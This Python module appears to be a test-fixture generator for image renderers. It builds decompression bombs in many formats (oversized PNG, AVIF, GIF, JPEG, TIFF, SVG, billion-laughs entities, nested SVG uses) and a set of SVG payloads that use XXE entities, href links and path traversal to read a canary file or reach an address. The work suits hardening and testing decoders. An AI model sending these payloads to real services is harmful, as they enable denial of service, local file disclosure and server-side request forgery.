"""Small files that ask for much: every one is drawn here, byte by byte, in a moment."""

import base64
import gzip
import struct
import zlib
from collections.abc import Callable, Iterator
from itertools import pairwise

Draw = Callable[[], bytes]

_PNG_SIGNATURE = b"\x89PNG\r\n\x1a\n"
_GREY, _COLOUR_ALPHA = 0, 6
_NINE = 'width="9" height="9"'

# 10,000 x 10,000 black AVIF, written by libheif once: five seconds and 1.3 GB to draw anew.
_AVIF_100_MP = (
    "eNpjYGCQSSupLEgsy0xjAILczDRDEDs3MxHIZxTPTS1JZIAAxYyUnCIom6EgM7mEAQ2YZObkJ4MYLg4MTAyMIBajNY"
    "RmYOBwBIoBAWcNTIRhHxBbZGbmgS0Gy4oCOalgZUA1iWUGhgxIgowgJa4VEHfyFWSW5DJAVTKEZRYUFYBNK0jOB9I8"
    "iWWGzo3yPCB5kcziglSIheoCEMwgUJBZkQkSYebg4ABSYpkFuTBvMjIwMjcyMQNZUplFqWlQUb7klOJksK+A9nGy56"
    "YklggxcHHLf0/nn2O7iEmKl8NovYAw3/H21sj7//8/On+ggeHQ+VNa3yUrlzA5FTorl3+9XKG9uKB/YsoSjd1np2n/"
    "V167p5vXrla94N2Rpywqj1V6GpvecosGCGg3O1ZIeDLV33Y26Lje8+qsxTn7kLzp8Xy5Ux4smBSgVSB8IjPW4bYK97"
    "cjLOseLDBbobi5Lmx36RlTpkexhy2XvxSb+NwmX8t1ifSzFJN1Wr5Pqj4kuUoErLLjqYpW+PZTfxfHq6laojvzLx11"
    "2PDI6+yfnLxyfY3pUwu0X1m1brdmY0iaJ7Hy2eNVe4W3t+e/Pei5oxTuB/fKNaetz06x0fF5sUwyLZZb9FR+Y/HXyE"
    "BjD7/W1keP93JonZhd03H5wcPzF47brAr7JhUyqT3J9DkLf9esrWKLjz4Na+OMtHOT5VzpZHRXVGbKcYGff32aHS6+"
    "tN31J61KPXDTkWWbMvfIzOu9kKoU3jBA1vaTYe1lwzs7JThVK+Ks96/SnHO2Mtj0ypLw5+HnKiQbT4bemrdr2q+zZ5"
    "Ya/myrmv6/v9WtcdbFU7fN+WRiHl//9rPnSvDc/tzai70i51l/P23v29HXc3RJ/3l1l3t6F4/Z/qp6e2AL1EGMfwuu"
    "XKy3ucF1piJinZ/a7s3F7uKq716svKwp9UvXcGLTi9ObFl5abqq8PeHHm7Sp3+Rmzb5kKBUhfI83lpnFtS792xEN2Q"
    "exQheE06wnddy7MYW//9i5kNS13JEfAh8GTyg99fm+8+SXW51Fp9ZaTcksEXFnS+f9VlrAu0/1mriJ/EbGGHbOQk9L"
    "NxX9u4oTF01eyzz7UOKuPU9nWqQc3sMauju6lGfRzQeutjytAs1t+z/YX50Qfv6UptDJZRXzOKIvpgg5fyu6fmBJIg"
    "vr5atT5Wx+BR+f92/j6rcLN28NCVdQjK3fM/+Kx1S2+v2xW9qOiRxvXnvs++o8r6vtYUc2lSrqp2/hjfrSOnuvVvGM"
    "/jllDTQzuJB4g/eZJ/IzKx9SLRQukfV95jP1+ezCjH2HQkx6Fdmy3U3OnJSL/AmM1IDmBfc3Pp4e8lNWrXTWv6UnPi"
    "yVdPt9aquIrGPt26K77cbTo0ejdthG7bGhErXff3IxqL9m1507K2rmRr9HtSE6my4lOl3kqY84y3P9mEghDeJkzpJk"
    "owl1UVbKci9eJxzq0Yo3PH9f5WCa5NIbsr1n/bgGwEq6po8PebnnuZQVH2+LeJ53AdisYIO0Zzw9tRhA7RA2BiFGZn"
    "CLBoSlGFkhrRsgloay44BYA6oG1FASZkKoz2xnAdOwNosFsDH2ghlBszEwTGBnYAHKGBgZGjBOhLAZQW2dBVBxQwMD"
    "xgUQE///B9qwAGKigDqwqYTEBgEAeVlU5w=="
)


def bombs() -> Iterator[tuple[str, bytes]]:
    """Every bomb by its name."""
    for draw in ALL:
        yield draw.__name__, draw()


def png_1_by_1_000_000() -> bytes:
    """One pixel wide: asked for 120 across, it would be 120,000,000 high."""
    return _png(1, 1_000_000, 1, _GREY)


def png_900_megapixels() -> bytes:
    """1 bit deep, 30,000 x 30,000."""
    return _png(30_000, 30_000, 1, _GREY)


def png_interlaced_16_bit_49_megapixels() -> bytes:
    """Interlaced, so that all 392 MB must be held at once."""
    return _png(7000, 7000, 16, _COLOUR_ALPHA, interlaced=True)


def png_that_claims_the_largest_size() -> bytes:
    """2^31 - 1 on both sides and one row of pixels."""
    header = struct.pack(">IIBBBBB", 2**31 - 1, 2**31 - 1, 8, _COLOUR_ALPHA, 0, 0, 0)
    return _png_file(header, zlib.compress(bytes(100)))


def png_with_deep_text() -> bytes:
    """Twenty zTXt chunks of 64 MB of nothing each, before the first pixel."""
    text = b"Comment\0\0" + _zeros(64 << 20)
    return _png(16, 16, 8, _GREY, before=_chunk(b"zTXt", text) * 20)


def png_with_a_deep_profile() -> bytes:
    """An ICC profile of 256 MB of nothing."""
    return _png(16, 16, 8, _GREY, before=_chunk(b"iCCP", b"icc\0\0" + _zeros(256 << 20)))


def avif_100_megapixels() -> bytes:
    """2.6 KB; decoding takes 1.5 GB."""
    return zlib.decompress(base64.b64decode(_AVIF_100_MP))


def avif_that_claims_16_megapixels_more() -> bytes:
    """The container says 40,000 x 40,000, the coded picture 10,000 x 10,000."""
    told = struct.pack(">4sIII", b"ispe", 0, 10_000, 10_000)
    return avif_100_megapixels().replace(told, struct.pack(">4sIII", b"ispe", 0, 40_000, 40_000))


def gif_5_000_frames() -> bytes:
    """500 x 500 each, all in 2 MB."""
    return _gif(500, 500, 5000)


def gif_65_535_square() -> bytes:
    """The canvas is 4 GB, the only frame one pixel."""
    return _gif_canvas(65_535, 65_535) + _gif_frame(1, 1) + b";"


def webp_cut_in_the_middle_of_268_megapixels() -> bytes:
    """A lossless header of 16,384 x 16,384, then nothing."""
    bits = (16_383 | 16_383 << 14).to_bytes(4, "little")
    return _riff(b"VP8L" + struct.pack("<I", 6) + b"/" + bits + b"\0")


def jpeg_that_claims_65_500_square() -> bytes:
    """A baseline header of 4.3 gigapixels with no scan behind it."""
    frame = struct.pack(">BHHB", 8, 65_500, 65_500, 1) + b"\1\x11\0"
    return b"\xff\xd8" + _segment(0xC0, frame) + b"\xff\xd9"


def jpeg_of_883_scans() -> bytes:
    """64 megapixels, each coefficient sent in fourteen steps: every scan walks all blocks again."""
    frame = struct.pack(">BHHB", 8, 8000, 8000, 1) + b"\1\x11\0"
    tables = _segment(0xDB, b"\0" + b"\1" * 64) + _segment(0xC4, _one_code(0x00, 0x00))
    runs = _runs_of_empty_blocks(1000 * 1000)
    scans = [_scan(0, 0, 0) + bytes(1000 * 1000 // 8) + _segment(0xC4, _one_code(0x10, 0xE0))]
    for coefficient in range(1, 64):
        steps = ((high, high - 1 if high else 13) for high in (0, *range(13, 0, -1)))
        scans += [_scan(coefficient, high, low) + runs for high, low in steps]
    return b"\xff\xd8" + tables + _segment(0xC2, frame) + b"".join(scans) + b"\xff\xd9"


def tiff_whose_pages_go_in_a_circle() -> bytes:
    """The next page of the first page is the first page."""
    return _tiff(64, 64, next_page=8)


def tiff_that_claims_10_gigapixels() -> bytes:
    """100,000 x 100,000 in one strip that is not there."""
    return _tiff(100_000, 100_000, next_page=0)


def svg_10_000_000_square() -> bytes:
    """127 bytes in some collections."""
    return _svg('<rect width="9" height="9"/>', 'width="10000000" height="10000000"')


def svg_of_a_billion_laughs() -> bytes:
    """Ten entities, each ten times the one before."""
    names = [f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10)]
    doctype = '<!DOCTYPE svg [<!ENTITY l0 "ha">' + "".join(names) + "]>"
    return doctype.encode() + _svg("<text>&l9;</text>")


def svg_of_uses_within_uses() -> bytes:
    """2^30 rectangles in 31 groups."""
    start = '<defs><g id="g0"><rect width="1" height="1"/></g>'
    groups = (f'<g id="g{n}">{f"""<use href="#g{n - 1}"/>""" * 2}</g>' for n in range(1, 31))
    return _svg(start + "".join(groups) + '</defs><use href="#g30"/>')


def svg_of_groups_a_hundred_thousand_deep() -> bytes:
    """Deep enough for the stack of who walks it by recursion."""
    return _svg("<g>" * 100_000 + "</g>" * 100_000)


def svg_with_a_giant_blur() -> bytes:
    """A filter that reads a million pixels for each one."""
    blur = '<filter id="f"><feGaussianBlur stdDeviation="1000000"/></filter>'
    turbulence = '<filter id="t"><feTurbulence numOctaves="1000000"/></filter>'
    shapes = '<rect width="999" height="999" filter="url(#{})"/>'
    return _svg(blur + turbulence + shapes.format("f") + shapes.format("t"))


def svg_packed_a_thousand_times() -> bytes:
    """A gzipped SVG of 200 MB of spaces."""
    return gzip.compress(_svg(" " * (200 << 20)), compresslevel=1)


ALL: tuple[Draw, ...] = (
    png_1_by_1_000_000,
    png_900_megapixels,
    png_interlaced_16_bit_49_megapixels,
    png_that_claims_the_largest_size,
    png_with_deep_text,
    png_with_a_deep_profile,
    avif_100_megapixels,
    avif_that_claims_16_megapixels_more,
    gif_5_000_frames,
    gif_65_535_square,
    webp_cut_in_the_middle_of_268_megapixels,
    jpeg_that_claims_65_500_square,
    jpeg_of_883_scans,
    tiff_whose_pages_go_in_a_circle,
    tiff_that_claims_10_gigapixels,
    svg_10_000_000_square,
    svg_of_a_billion_laughs,
    svg_of_uses_within_uses,
    svg_of_groups_a_hundred_thousand_deep,
    svg_with_a_giant_blur,
    svg_packed_a_thousand_times,
)


def svgs_that_reach_out(canary: str, address: str) -> Iterator[bytes]:
    """Every known way to make a renderer open the file `canary` or call `address`, one by one."""
    for to in (
        f"file://{canary}",
        canary,
        canary.rpartition("/")[2],
        f"../../../../../..{canary}",
        address,
        address[5:],
    ):
        yield from _drawings_that_open(to)
        for entity in (f'x SYSTEM "{to}"', f'x PUBLIC "-//W3C//DTD SVG 1.1//EN" "{to}"'):
            yield f"<!DOCTYPE svg [<!ENTITY {entity}>]>".encode() + _svg("<text y='9'>&x;</text>")
        yield f'<!DOCTYPE svg [<!ENTITY % x SYSTEM "{to}"> %x;]>'.encode() + _svg("")
        yield f'<!DOCTYPE svg SYSTEM "{to}">'.encode() + _svg("")


def _drawings_that_open(to: str) -> Iterator[bytes]:
    for kind in ("image", "use", "feImage", "tref", "script", "a", "linearGradient", "pattern"):
        drawn = f'<{kind} href="{to}" xlink:href="{to}" id="i" width="50" height="50"/>'
        yield _svg(drawn + f'<filter id="f">{drawn}</filter><rect {_NINE} filter="url(#f)"/>')
        inner = base64.b64encode(_svg(drawn)).decode()
        yield _svg(f'<image href="data:image/svg+xml;base64,{inner}" {_NINE}/>')
    for name in ("fill", "filter", "mask", "clip-path", "marker-end", "cursor", "src"):
        yield _svg(f'<rect {_NINE} {name}="url({to}#x)" style="{name}: url({to}#x)"/>')
    yield _svg(
        f'<style>@import url("{to}"); @font-face {{ font-family: f; src: url("{to}") }}</style>'
    )
    yield _svg(f'<?xml-stylesheet href="{to}" type="text/css"?><rect {_NINE}/>')
    namespace = "http://www.w3.org/2001/XInclude"
    yield _svg(f'<i:include xmlns:i="{namespace}" href="{to}" parse="text"/>')
    yield _svg(f'<i:include xmlns:i="{namespace}" href="{to}"/>')


def _png(
    width: int,
    height: int,
    bits: int,
    colour: int,
    *,
    interlaced: bool = False,
    before: bytes = b"",
) -> bytes:
    """A black picture; `before` are whole chunks to come first."""
    header = struct.pack(">IIBBBBB", width, height, bits, colour, 0, 0, interlaced)
    samples = 4 if colour == _COLOUR_ALPHA else 1
    if interlaced:
        size = sum((w * bits * samples + 7) // 8 * h + h for w, h in _passes(width, height))
    else:
        size = ((width * bits * samples + 7) // 8 + 1) * height
    return _png_file(header, _zeros(size), before)


def _png_file(header: bytes, pixels: bytes, before: bytes = b"") -> bytes:
    head = _PNG_SIGNATURE + _chunk(b"IHDR", header) + before
    return head + _chunk(b"IDAT", pixels) + _chunk(b"IEND", b"")


def _chunk(name: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))


def _passes(width: int, height: int) -> Iterator[tuple[int, int]]:
    """The sizes of Adam7's seven pictures."""
    steps = ((0, 0, 8, 8), (4, 0, 8, 8), (0, 4, 4, 8), (2, 0, 4, 4), (0, 2, 2, 4), (1, 0, 2, 2))
    for left, top, across, down in (*steps, (0, 1, 1, 2)):
        yield (width - left + across - 1) // across, (height - top + down - 1) // down


def _zeros(size: int) -> bytes:
    """zlib's stream of `size` zeros, made of one packed megabyte said again and again."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    whole, rest = divmod(size, 1 << 20)
    megabyte = packer.compress(bytes(1 << 20)) + packer.flush(zlib.Z_FULL_FLUSH)
    tail = packer.compress(bytes(rest)) + packer.flush()
    adler = size % 65_521 << 16 | 1  # of zeros: the first sum stays 1, the second counts them
    return b"\x78\xda" + megabyte * whole + tail + struct.pack(">I", adler)


def _gif(width: int, height: int, frames: int) -> bytes:
    return _gif_canvas(width, height) + _gif_frame(width, height) * frames + b";"


def _gif_canvas(width: int, height: int) -> bytes:
    """Two colours, and no end of repeating."""
    loop = b"!\xff\x0bNETSCAPE2.0\x03\x01\0\0\0"
    return (
        b"GIF89a" + struct.pack("<HHBBB", width, height, 0x80, 0, 0) + b"\0\0\0\xff\xff\xff" + loop
    )


def _gif_frame(width: int, height: int) -> bytes:
    """One black picture over the whole canvas, shown for a tenth of a second."""
    pause = b"!\xf9\x04\0" + struct.pack("<H", 10) + b"\0\0"
    place = b"," + struct.pack("<HHHHB", 0, 0, width, height, 0)
    packed = _lzw_of_zeros(width * height)
    blocks = (packed[start : start + 255] for start in range(0, len(packed), 255))
    return pause + place + b"\2" + b"".join(bytes([len(b)]) + b for b in blocks) + b"\0"


def _lzw_of_zeros(count: int) -> bytes:
    """GIF's compression at its best: every code says one pixel more than the one before."""
    bits, used, width, free = 4, 3, 3, 5  # the clear code (4) is written, the table ends at 5
    run = 0
    while count:
        run = min(run + 1, count)
        count -= run
        bits |= (0 if run == 1 else run + 4) << used
        used += width
        free += 1
        width += free == 1 << width
    bits |= 5 << used
    return bits.to_bytes((used + width + 7) // 8, "little")


def _riff(data: bytes) -> bytes:
    return b"RIFF" + struct.pack("<I", len(data) + 4) + b"WEBP" + data


def _segment(marker: int, data: bytes) -> bytes:
    return struct.pack(">BBH", 0xFF, marker, len(data) + 2) + data


def _one_code(table: int, symbol: int) -> bytes:
    """A Huffman table with one code: the bit 0 is `symbol`."""
    return bytes([table, 1]) + bytes(15) + bytes([symbol])


def _scan(coefficient: int, high: int, low: int) -> bytes:
    return _segment(0xDA, bytes([1, 1, 0, coefficient, coefficient, high << 4 | low]))


def _runs_of_empty_blocks(count: int) -> bytes:
    """Progressive JPEG's way to say nothing: a 0 bit and 14 bits of run length over 16,384."""
    runs = -(-count // 32_767)
    ends = [count * run // runs for run in range(runs + 1)]
    bits = "".join(f"0{end - start - 16_384:014b}" for start, end in pairwise(ends))
    bits += "1" * (-len(bits) % 8)
    return int(bits, 2).to_bytes(len(bits) // 8, "big").replace(b"\xff", b"\xff\0")


def _tiff(width: int, height: int, next_page: int) -> bytes:
    """One grey page whose pixels begin at byte 8 and are not there."""
    long, tags = (
        4,
        (
            (256, width),
            (257, height),
            (258, 8),
            (259, 1),
            (262, 1),
            (273, 8),
            (278, height),
            (279, 99),
        ),
    )
    entries = b"".join(struct.pack("<HHII", tag, long, 1, value) for tag, value in tags)
    return b"II*\0" + struct.pack("<IH", 8, len(tags)) + entries + struct.pack("<I", next_page)


def _svg(body: str, size: str = 'width="1000" height="1000"') -> bytes:
    names = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'
    return f"<svg {names} {size}>{body}</svg>".encode()
